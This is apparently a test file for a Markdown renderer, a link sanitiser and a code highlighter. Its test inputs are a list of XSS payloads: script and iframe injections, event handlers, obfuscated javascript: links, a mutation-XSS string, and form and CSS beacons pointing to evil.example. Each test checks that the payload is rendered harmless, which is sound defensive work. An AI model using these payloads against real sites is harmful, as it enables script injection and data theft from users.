import { render } from "preact";
import { beforeAll, expect, test } from "vitest";

import { speak } from "../i18n/index.ts";
import { highlight } from "./highlight.ts";
import { safeLink } from "./links.ts";
import { Markdown } from "./markdown.tsx";

beforeAll(() => speak("en"));

function shown(text: string, name?: string): HTMLElement {
  const place = document.createElement("div");
  render(<Markdown text={text} {...(name && { name })} />, place);
  return place;
}

/** After this, what changed is drawn. */
const tick = () => new Promise((done) => setTimeout(done));

test.each([
  ["a script", "<script>alert(1)</script>"],
  ["a script in a line", "Hi <script src=https://evil.example/x.js></script> there"],
  ["an event handler", "<img src=x onerror=alert(1)>"],
  ["an SVG", "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>"],
  ["a frame", "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"],
  ["a form", "<form action=https://evil.example><input name=token></form>"],
  ["a style", "<style>*{background:url(https://evil.example)}</style>"],
  ["a base", "<base href=https://evil.example>"],
  ["a link that is a script", "[x](javascript:alert(1))"],
  ["one with a tab in it", "[x](java\tscript:alert(1))"],
  ["one in entities", "[x](&#106;avascript:alert(1))"],
  ["one in capitals", "[x](JaVaScRiPt:alert(1))"],
  ["a page in a link", "[x](data:text/html,<script>alert(1)</script>)"],
  ["a local file", "[x](file:///etc/passwd)"],
  ["an automatic link", "<javascript:alert(1)>"],
  ["a link with a title", "[x](https://example.org \"\\\" onmouseover=alert(1) x=\\\"\")"],
  ["a picture with a handler", "![x\" onerror=\"alert(1)](https://evil.example/x.png)"],
  ["an SVG as a picture", "![x](data:image/svg+xml;base64,PHN2Zy8+)"],
  ["a code block's language", "```js\" onclick=\"alert(1)\ncode\n```"],
  ["a mutation", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"],
  ["an unfinished tag", "<img src=x onerror=alert(1) "],
])("%s is only words", (_, text) => {
  const place = shown(text);
  const names = Array.from(place.querySelectorAll("*"), (element) => element.tagName.toLowerCase());
  for (const name of ["script", "iframe", "form", "style", "base", "math", "img", "object", "embed", "input"]) {
    expect(names).not.toContain(name);
  }
  for (const element of place.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on/);
      expect(value).not.toMatch(/^\s*(javascript|data):/i);
      if (name === "href") expect(value).toMatch(/^(https?|mailto):/);
    }
  }
});

test("what it looks like in the end", () => {
  const place = shown("# Head\n\n**Bold** and `code` and <b>tag</b>\n\n- [x] done\n- open\n\n| a | b |\n|--|--:|\n| 1 | 2 |\n\n```rust\nfn main() {}\n```");
  expect(place.querySelector("h2")?.textContent).toBe("Head");
  expect(place.querySelector("strong")?.textContent).toBe("Bold");
  expect(place.querySelector("p")?.textContent).toBe("Bold and code and <b>tag</b>");
  expect(place.querySelectorAll("li").length).toBe(2);
  expect(place.querySelector<HTMLInputElement>("li input")?.checked).toBe(true);
  expect(place.querySelector("td.end")?.textContent).toBe("2");
  expect(place.querySelector("pre")?.textContent).toBe("fn main() {}");
});

test("links lead out, and tell nobody where from", () => {
  const link = shown("[a](https://example.org/?q=1&r=2)").querySelector("a")!;
  expect([link.href, link.target, link.rel]).toEqual(["https://example.org/?q=1&r=2", "_blank", "noopener noreferrer"]);
});

test("a picture in the text is shown", () => {
  expect(shown("![dot](data:image/png;base64,AAAA)").querySelector("img")?.alt).toBe("dot");
});

test("a picture elsewhere is fetched when somebody asks, and put away again", async () => {
  const far = shown("![cat](https://evil.example/cat.png?who=me)");
  const button = far.querySelector("button")!;
  expect(far.querySelector("img")).toBeNull();
  expect([button.textContent, button.getAttribute("aria-expanded")]).toEqual(["Show picture from evil.example", "false"]);
  button.click();
  await tick();
  const picture = far.querySelector("img")!;
  expect([picture.getAttribute("src"), picture.alt, picture.getAttribute("referrerpolicy")]).toEqual(["https://evil.example/cat.png?who=me", "cat", "no-referrer"]);
  expect([far.contains(button), button.textContent, button.getAttribute("aria-expanded")]).toEqual([true, "Hide picture from evil.example", "true"]);
  picture.dispatchEvent(new Event("error"));
  await tick();
  expect(far.querySelector("img")).toBeNull();
  expect(far.textContent).toContain("evil.example did not give a picture.");
  button.click();
  await tick();
  button.click();
  await tick();
  expect(far.querySelector("img")).not.toBeNull();
});

test("what was opened in a text is open when it comes back, and nowhere else", async () => {
  const text = "![cat](https://evil.example/cat.png)";
  const first = shown(text, "m1");
  first.querySelector("button")!.click();
  await tick();
  render(null, first);
  expect(shown(text, "m1").querySelector("img")).not.toBeNull();
  expect(shown(text, "m2").querySelector("img")).toBeNull();
  expect(shown(text).querySelector("img")).toBeNull();
});

test("a picture in the clear is a link, and one in a link stands before it", () => {
  const clear = shown("![cat](http://evil.example/cat.png)");
  expect([clear.querySelector("button"), clear.querySelector("a")?.textContent]).toEqual([null, "Picture at evil.example: cat"]);
  const linked = shown("[![cat](https://evil.example/cat.png)](https://example.org/cats)");
  expect(linked.querySelector("a button")).toBeNull();
  expect(Array.from(linked.querySelectorAll("a"), (link) => link.href)).toEqual(["https://evil.example/cat.png", "https://example.org/cats"]);
});

test("a huge table is cut", () => {
  const row = `|${"x|".repeat(60)}\n`;
  const table = row + `|${"-|".repeat(60)}\n` + row.repeat(2_000);
  expect(shown(table).querySelectorAll("td").length).toBeLessThanOrEqual(4_000);
});

test("nesting without end does no harm", () => {
  for (const depth of [29, 200, 5_000]) expect(shown("> ".repeat(depth) + "deep").textContent).toContain("deep");
  expect(shown("[".repeat(5_000)).textContent).toContain("[[[");
});

test.each([
  ["https://example.org", "https://example.org/"],
  ["mailto:a@example.org", "mailto:a@example.org"],
  ["javascript:alert(1)", null],
  [" \u0001javascript:alert(1)", null],
  ["vbscript:x", null],
  ["blob:https://example.org/1", null],
  ["/relative", null],
  ["//example.org", null],
  ["https://bank.example@evil.example/", null],
  ["https://exam\u202eple.org/", "https://example.org/"],
])("the link %j leads to %j", (href, expected) => {
  expect(safeLink(href)).toBe(expected);
});

test.each([
  ["rust", "let x = 1; // why", [["word", "let"], ["number", "1"], ["comment", "// why"]]],
  ["js", "f(`a ${b}`)", [["name", "f"], ["text", "`a ${b}`"]]],
  ["python", "\"\"\"a\nb\"\"\" # c", [["text", "\"\"\"a\nb\"\"\""], ["comment", "# c"]]],
  ["sql", "SELECT 1 -- x", [["word", "SELECT"], ["number", "1"], ["comment", "-- x"]]],
  ["nonsense", "let x", []],
])("in %s, words of %j stand out", (language, text, expected) => {
  const spans = highlight(text, language);
  expect(spans.map(([, part]) => part).join("")).toBe(text);
  expect(spans.filter(([tone]) => tone !== "plain")).toEqual(expected);
});
